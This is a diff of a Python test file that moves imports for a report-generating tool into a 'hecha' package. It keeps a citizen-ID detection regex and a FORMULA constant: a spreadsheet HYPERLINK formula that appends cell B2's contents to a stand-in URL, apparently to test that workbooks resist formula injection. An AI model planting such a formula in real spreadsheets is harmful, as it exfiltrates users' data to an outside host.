@@ -11,11 +11,11 @@ import openpyxl
 import pytest
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
-from checks.runner import FINDING_DDL
-from config import load_policy
-from reports.exceptions import write_exceptions
-from reports.html_report import write_html_report
-from reports.workbooks import COUNTY_BOOK, SUMMARY_SHEET, workbook_stem, write_workbooks
+from hecha.checks.runner import FINDING_DDL
+from hecha.config import load_policy
+from hecha.reports.exceptions import write_exceptions
+from hecha.reports.html_report import write_html_report
+from hecha.reports.workbooks import COUNTY_BOOK, SUMMARY_SHEET, workbook_stem, write_workbooks
 
 CITIZEN_NUMBER = re.compile(r"(?<![0-9])[0-9]{17}[0-9Xx](?![0-9])|(?<![0-9])[0-9]{15}(?![0-9])")
 FORMULA = '=HYPERLINK("http://x?"&B2,"详情")'
